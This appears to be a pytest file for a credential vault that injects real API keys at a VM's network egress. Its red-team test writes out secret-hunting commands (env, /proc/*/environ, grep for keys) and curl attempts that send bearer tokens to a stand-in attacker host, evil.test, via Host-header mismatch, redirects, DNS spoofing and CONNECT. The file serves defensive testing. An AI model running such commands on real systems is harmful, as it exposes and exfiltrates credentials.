"""The vault at egress, end to end (issue #13): a VM attached to a vault calls a test
"api.openai.com" that lives in a network namespace with its own CA, and the server side gets the
real key while nothing in the VM ever can. Red-team attempts from inside the VM: env, files,
/proc, the agent, the proxy's error pages, a redirect to another host, a Host header that differs
from the SNI, DNS pointing a bound name at a server the test controls, plain HTTP, CONNECT.

Needs root (network namespaces) and openssl on the host.
"""

import json
import os
import random
import shutil
import sqlite3
import subprocess
import tempfile
import time

import httpx
import pytest
import requests
from instavm import InstaVM
from instavm.cassette_replay import CassetteReplayClient

from conftest import Server

N = random.randint(20, 230)
NET = f"198.18.{N}"
NS = f"ivmvt{N}"
HOST_IF, PEER_IF = f"ivv{N}h", f"ivv{N}p"
DNS_IP = f"{NET}.1"
HOST_SIDE = f"{NET}.2"
API, EVIL = f"{NET}.10", f"{NET}.11"
SECRET = "sk-proj-REAL-VALUE-" + "%06d" % random.randint(0, 999999)
ROTATED = SECRET + "-rotated"

RECORDS = {"api.openai.com": API, "api.github.com": EVIL, "evil.test": EVIL}

DNS_SERVER = r"""
import json, socket, struct, sys
REC = json.loads(sys.argv[1])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[2], 53))
while True:
    q, peer = s.recvfrom(4096)
    try:
        i, labels = 12, []
        while q[i]:
            labels.append(q[i + 1:i + 1 + q[i]].decode()); i += 1 + q[i]
        name = ".".join(labels).lower()
        qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
        qend = i + 5
        ip = REC.get(name)
        ans = b""
        if ip and qtype == 1:
            ans = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton(ip)
        flags = 0x8180 if ip else 0x8183
        s.sendto(q[:2] + struct.pack(">HHHHH", flags, 1, 1 if ans else 0, 0, 0) + q[12:qend] + ans, peer)
    except Exception as e:
        print("dns error", e, file=sys.stderr)
"""

# Sites that write every request they get (site, path, Host, Authorization) to a file.
SITES = r"""
import http.server, json, ssl, sys, threading, time
log = open(sys.argv[1], "a")
lock = threading.Lock()
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def handle_one(s):
        with lock:
            log.write(json.dumps({"site": s.server.name, "path": s.path, "host": s.headers.get("Host"),
                                  "auth": s.headers.get("Authorization")}) + "\n"); log.flush()
        n = int(s.headers.get("Content-Length") or 0)
        body = s.rfile.read(n) if n else b""
        if s.path.startswith("/redirect"):
            s.send_response(302); s.send_header("Location", "https://evil.test/collect")
            s.send_header("Content-Length", "0"); s.end_headers(); return
        out = f"ok from {s.server.name} got {len(body)} bytes\n".encode()
        s.send_response(200); s.send_header("Content-Length", str(len(out))); s.end_headers(); s.wfile.write(out)
    do_GET = do_POST = handle_one
    def log_message(s, *a): pass
for spec in sys.argv[2:]:
    name, ip, port, cert, key = spec.split(",")
    srv = http.server.ThreadingHTTPServer((ip, int(port)), H)
    srv.name = name
    if cert != "-":
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(cert, key)
        srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
print("ready", flush=True)
while True:
    time.sleep(3600)
"""


def sh(cmd):
    subprocess.run(cmd, shell=True, check=True, capture_output=True)


@pytest.fixture(scope="module")
def world():
    if os.geteuid() != 0:
        pytest.skip("needs root (network namespaces)")
    if not shutil.which("openssl"):
        pytest.skip("needs openssl")
    tmp = tempfile.mkdtemp(prefix="instavm-vault-")
    procs = []
    try:
        sh(f"ip netns add {NS}")
        sh(f"ip link add {HOST_IF} type veth peer name {PEER_IF} netns {NS}")
        sh(f"ip addr add {HOST_SIDE}/24 dev {HOST_IF} && ip link set {HOST_IF} up")
        for ip in (DNS_IP, API, EVIL):
            sh(f"ip -n {NS} addr add {ip}/24 dev {PEER_IF}")
        sh(f"ip -n {NS} link set {PEER_IF} up && ip -n {NS} link set lo up")
        sh(f"ip -n {NS} route add default via {HOST_SIDE}")
        p = lambda n: os.path.join(tmp, n)
        # The test API's own CA (the proxy trusts it through --upstream-ca; the VM never does).
        sh(f"openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=test-upstream-ca -keyout {p('ca.key')} -out {p('ca.pem')} -days 2 "
           f"-addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign")
        with open(p("san.ext"), "w") as f:
            f.write("subjectAltName=DNS:api.openai.com\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n")
        sh(f"openssl req -newkey rsa:2048 -nodes -subj /CN=api.openai.com -keyout {p('api.key')} -out {p('api.csr')}")
        sh(f"openssl x509 -req -in {p('api.csr')} -CA {p('ca.pem')} -CAkey {p('ca.key')} -CAcreateserial -out {p('api.pem')} -days 2 -extfile {p('san.ext')}")
        # The attacker's server: a self-signed certificate for every name it is asked.
        sh(f"openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=api.github.com -keyout {p('evil.key')} -out {p('evil.pem')} -days 2 "
           f"-addext subjectAltName=DNS:api.github.com,DNS:evil.test")
        procs.append(subprocess.Popen(["ip", "netns", "exec", NS, "python3", "-c", DNS_SERVER, json.dumps(RECORDS), DNS_IP]))
        log = p("requests.jsonl")
        open(log, "w").close()
        specs = [f"api,{API},443,{p('api.pem')},{p('api.key')}", f"api-plain,{API},80,-,-",
                 f"evil,{EVIL},443,{p('evil.pem')},{p('evil.key')}", f"evil-plain,{EVIL},80,-,-"]
        sp = subprocess.Popen(["ip", "netns", "exec", NS, "python3", "-c", SITES, log, *specs], stdout=subprocess.PIPE, text=True)
        procs.append(sp)
        assert sp.stdout.readline().strip() == "ready"
        yield {"tmp": tmp, "ca": p("ca.pem"), "log": log}
    finally:
        for pr in procs:
            pr.kill()
            pr.wait()
        subprocess.run(["ip", "netns", "del", NS], capture_output=True)
        subprocess.run(["ip", "link", "del", HOST_IF], capture_output=True)
        shutil.rmtree(tmp, ignore_errors=True)


def seen(world):
    with open(world["log"]) as f:
        return [json.loads(l) for l in f if l.strip()]


@pytest.fixture(scope="module")
def vserver(world):
    srv = Server(extra_args=["--dns-upstream", f"{DNS_IP}:53", "--upstream-ca", world["ca"]])
    try:
        srv.start()
        yield srv
    finally:
        srv.stop()


@pytest.fixture(scope="module")
def vm(vserver):
    key = vserver.create_user()
    c = InstaVM(api_key=key, base_url=vserver.base_url, auto_start_session=False)
    vid = c.create_vault("egress-test")["id"]
    cred = c.add_vault_credential(vid, name="OPENAI_API_KEY", value=SECRET)
    c.add_vault_credential(vid, name="GITHUB_TOKEN", value=SECRET + "-gh")
    c.add_vault_services_from_templates(vid, ["openai", "github"])
    policy = dict(allow_package_managers=False, allow_http=False, allow_https=False,
                  allowed_domains=["api.openai.com", "api.github.com", "evil.test"], allowed_cidrs=[])
    rec = c.vms.create(wait=True, vault_ids=[vid], egress_policy=policy)
    s = InstaVM(api_key=key, base_url=vserver.base_url, auto_start_session=False)
    s.session_id = rec["session_id"]
    yield {"c": c, "s": s, "vid": vid, "cred": cred["id"], "vm": rec}
    try:
        c.vms.delete(rec["vm_id"])
    except Exception:
        pass


def bash(vm, cmd):
    r = vm["s"].execute(cmd, language="bash", timeout=60)
    return (r.get("stdout") or "") + (r.get("stderr") or "")


def test_the_vm_sees_a_placeholder_and_the_api_gets_the_key(vm, world, vserver):
    before = len(seen(world))
    out = bash(vm, 'curl -sS --max-time 10 https://api.openai.com/v1/models -H "Authorization: Bearer $OPENAI_API_KEY"; echo; echo "$OPENAI_API_KEY"')
    assert "ok from api" in out, out
    assert SECRET not in out
    assert out.strip().splitlines()[-1].startswith("ivp_")
    got = seen(world)[before:]
    assert [(g["site"], g["path"], g["auth"]) for g in got] == [("api", "/v1/models", f"Bearer {SECRET}")]
    # No header at all: the proxy adds it. Python's own TLS (SSL_CERT_FILE) works too.
    py = "import urllib.request; print(urllib.request.urlopen('https://api.openai.com/v1/chat?x=1', timeout=10).read().decode())"
    out = bash(vm, f"python3 -c \"{py}\"")
    assert "ok from api" in out, out
    assert seen(world)[-1]["auth"] == f"Bearer {SECRET}" and seen(world)[-1]["path"] == "/v1/chat?x=1"
    # A request body is streamed through.
    out = bash(vm, "head -c 300000 /dev/zero | curl -sS --max-time 20 -X POST --data-binary @- https://api.openai.com/v1/upload")
    assert "got 300000 bytes" in out, out


def test_rotation_applies_at_once(vm, world):
    c = vm["c"]
    c.rotate_vault_credential(vm["vid"], vm["cred"], value=ROTATED)
    out = bash(vm, 'curl -sS --max-time 10 https://api.openai.com/v1/after-rotate -H "Authorization: Bearer $OPENAI_API_KEY"')
    assert "ok from api" in out
    assert seen(world)[-1]["auth"] == f"Bearer {ROTATED}"
    c.rotate_vault_credential(vm["vid"], vm["cred"], value=SECRET)


def test_red_team_from_inside_the_vm(vm, world, vserver):
    before = len(seen(world))
    hunt = bash(vm, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/1/cmdline; "
                    "grep -rIs -l 'REAL-VALUE' /etc /tmp /root /home /usr/local /var 2>/dev/null; "
                    "cat /usr/local/share/ca-certificates/*; ls -la /usr/local/share/ca-certificates")
    assert SECRET not in hunt and "REAL-VALUE" not in hunt
    assert "PRIVATE KEY" not in hunt
    attempts = [
        # A Host header that differs from the SNI.
        'curl -sS --max-time 10 https://api.openai.com/ -H "Host: evil.test" -H "Authorization: Bearer $OPENAI_API_KEY"',
        # Plain HTTP to the bound host (port 80 through the gate, no interception).
        'curl -sS --max-time 10 http://api.openai.com/plain -H "Authorization: Bearer $OPENAI_API_KEY"',
        # A redirect from the bound host to another host, the header sent along on purpose.
        'curl -sSk --max-time 10 -L --location-trusted https://api.openai.com/redirect -H "Authorization: Bearer $OPENAI_API_KEY"',
        # DNS points a bound name (api.github.com) at the attacker's server.
        'curl -sS --max-time 10 https://api.github.com/user -H "Authorization: Bearer $GITHUB_TOKEN"',
        'curl -sSk --max-time 10 https://api.github.com/user',
        # CONNECT tunnelling through the proxy.
        'curl -sSk --max-time 10 -p -x https://api.openai.com:443 --proxy-insecure https://evil.test/',
        # Straight to the attacker with the placeholder, and the proxy's error pages.
        'curl -sSk --max-time 10 https://evil.test/ -H "Authorization: Bearer $OPENAI_API_KEY"',
        'curl -sS --max-time 10 --resolve api.openai.com:443:' + EVIL + ' https://api.openai.com/ -H "Authorization: Bearer $OPENAI_API_KEY"',
        'curl -sS --max-time 10 --http2 https://api.openai.com/h2 -H "Authorization: Bearer $OPENAI_API_KEY" -w "%{http_version}"',
    ]
    for cmd in attempts:
        out = bash(vm, cmd + " 2>&1; true")
        assert SECRET not in out, (cmd, out)
    got = seen(world)[before:]
    leaked = [g for g in got if g["site"] != "api" and SECRET in json.dumps(g)]
    assert leaked == [], leaked
    # Whatever reached the attacker carried the placeholder at most.
    assert any(g["site"] == "evil" and (g["auth"] or "").startswith("Bearer ivp_") for g in got), got
    assert any(g["site"] == "api-plain" and (g["auth"] or "").startswith("Bearer ivp_") for g in got), got
    # The attacker's server for api.github.com never got a request (its certificate is refused).
    assert not any(g["site"] == "evil" and g["path"] == "/user" for g in got), got
    # The only site that saw the value is the real API: the redirect's first hop and the h2 try.
    assert [g["path"] for g in got if g["site"] == "api" and SECRET in (g["auth"] or "")] == ["/redirect", "/h2"]


def test_request_logs_and_no_value_anywhere_on_the_host(vm, world, vserver):
    time.sleep(0.5)
    logs = vm["c"].get_vault_request_logs(vm["vid"], limit=100)
    assert logs, "no request logs"
    assert SECRET not in json.dumps(logs)
    row = next(l for l in logs if l["path"] == "/v1/models")
    assert row["host"] == "api.openai.com" and row["status"] == 200 and row["method"] == "GET"
    assert row["credential_name"] == "OPENAI_API_KEY" and row["vm_id"] == vm["vm"]["vm_id"]
    assert all("?" not in l["path"] for l in logs)
    # Not in the server log, the database (WAL included), or a snapshot of the VM.
    snap = vm["c"].vms.snapshot(vm["vm"]["vm_id"], name="vault-leak-check", wait=True)
    assert SECRET not in vserver.log()
    for root, _dirs, files in os.walk(vserver.data_dir):
        if "/layers" in root or "/images" in root:
            continue
        for name in files:
            path = os.path.join(root, name)
            if os.path.isfile(path) and os.path.getsize(path) < 50 << 20:
                with open(path, "rb") as f:
                    assert SECRET.encode() not in f.read(), path
    layers = os.path.join(vserver.data_dir, "layers", "snapshots")
    if os.path.isdir(layers):
        out = subprocess.run(["grep", "-rIl", SECRET, layers], capture_output=True, text=True)
        assert out.stdout == "", out.stdout
    assert snap


def test_a_tape_records_egress_requests_without_secrets(vm, world, vserver):
    c, sid = vm["c"], vm["s"].session_id
    tape = c.tapes.start(sid, record_fs=False)
    out = bash(vm, 'curl -sS --max-time 10 https://api.openai.com/v1/taped -H "Authorization: Bearer $OPENAI_API_KEY"')
    assert "ok from api" in out, out
    deadline = time.time() + 10
    while time.time() < deadline and not c.tapes.events(tape["id"], kind="http_egress"):
        time.sleep(0.2)
    c.tapes.stop(tape["id"])
    events = c.tapes.events(tape["id"])
    egress = [e for e in events if e["kind"] == "http_egress"]
    assert len(egress) == 1, events
    p = egress[0]["payload"]
    assert (p["host"], p["method"], p["path"], p["status"]) == ("api.openai.com", "GET", "/v1/taped", 200)
    assert p["credential_name"] == "OPENAI_API_KEY" and SECRET not in json.dumps(events)
    assert "response_body" not in p  # metadata only without record_egress_content

    # With record_egress_content the bodies are kept (the response as the VM got it).
    tape = c.tapes.start(sid, record_fs=False, record_egress_content=True)
    out = bash(vm, "printf hello-body | curl -sS --max-time 10 -X POST --data-binary @- https://api.openai.com/v1/chat/completions")
    assert "got 10 bytes" in out, out
    deadline = time.time() + 10
    while time.time() < deadline and not c.tapes.events(tape["id"], kind="http_egress"):
        time.sleep(0.2)
    c.tapes.stop(tape["id"])
    p = c.tapes.events(tape["id"], kind="http_egress")[0]["payload"]
    assert p["request_body"] == "hello-body" and p["request_bytes"] == 10, p
    assert "got 10 bytes" in p["response_body"] and p["response_truncated"] is False, p
    assert SECRET not in json.dumps(p)
    # A call to an LLM API is also an llm_call step and a cassette line the official replay
    # client serves back, offline.
    calls = c.tapes.events(tape["id"], kind="llm_call")
    assert len(calls) == 1 and calls[0]["payload"]["request"]["url"] == "https://api.openai.com/v1/chat/completions"
    replay = CassetteReplayClient(tape["id"], cassette_root=os.path.join(vserver.data_dir, "tapes"), strict=True)
    http = httpx.Client(transport=replay.as_httpx_transport())
    again = http.post("https://api.openai.com/v1/chat/completions", content=b"hello-body")
    assert again.status_code == 200 and "got 10 bytes" in again.text


def test_the_default_open_policy_is_intercepted_too(vm, world):
    c = vm["c"]
    rec = c.vms.create(wait=True, vault_ids=[vm["vid"]])
    try:
        s = InstaVM(api_key=c.api_key, base_url=c.base_url, auto_start_session=False)
        s.session_id = rec["session_id"]
        run = lambda cmd: (lambda r: (r.get("stdout") or "") + (r.get("stderr") or ""))(s.execute(cmd, language="bash", timeout=60))
        before = len(seen(world))
        out = run('curl -sS --max-time 10 https://api.openai.com/open -H "Authorization: Bearer $OPENAI_API_KEY"')
        assert "ok from api" in out and SECRET not in out, out
        # Other HTTPS goes straight out, not through the proxy (the attacker's own certificate).
        out = run('curl -sSk --max-time 10 https://evil.test/direct -H "Authorization: Bearer $OPENAI_API_KEY"')
        assert "ok from evil" in out, out
        # A bound name with a Host of another site: no value.
        out = run('curl -sS --max-time 10 https://api.openai.com/x -H "Host: evil.test" -H "Authorization: Bearer $OPENAI_API_KEY"')
        assert SECRET not in out
        got = seen(world)[before:]
        assert [(g["site"], g["path"], g["auth"]) for g in got if g["site"] == "api"] == [("api", "/open", f"Bearer {SECRET}")]
        assert [g["auth"] for g in got if g["site"] == "evil"][0].startswith("Bearer ivp_")
    finally:
        c.vms.delete(rec["vm_id"])


def test_a_resumed_vm_keeps_its_placeholders_and_injection(vm, world):
    c = vm["c"]
    rec = c.vms.create(wait=True, vault_ids=[vm["vid"]])
    vm_id = rec["vm_id"]
    try:
        s = InstaVM(api_key=c.api_key, base_url=c.base_url, auto_start_session=False)
        s.session_id = rec["session_id"]
        before_ph = s.execute("echo $OPENAI_API_KEY", language="bash")["stdout"].strip()
        c.vms.suspend(vm_id)
        deadline = time.monotonic() + 120
        while c.vms.get(vm_id)["status"] != "suspended" and time.monotonic() < deadline:
            time.sleep(0.5)
        new = c.vms.resume(vm_id, wait=True)
        vm_id = new["vm_id"]
        out = s.execute('echo $OPENAI_API_KEY; curl -sS --max-time 10 https://api.openai.com/resumed -H "Authorization: Bearer $OPENAI_API_KEY"', language="bash")
        text = (out.get("stdout") or "") + (out.get("stderr") or "")
        assert text.splitlines()[0] == before_ph and "ok from api" in text, text
        assert seen(world)[-1]["path"] == "/resumed" and seen(world)[-1]["auth"] == f"Bearer {SECRET}"
    finally:
        try:
            c.vms.delete(vm_id)
        except Exception:
            pass
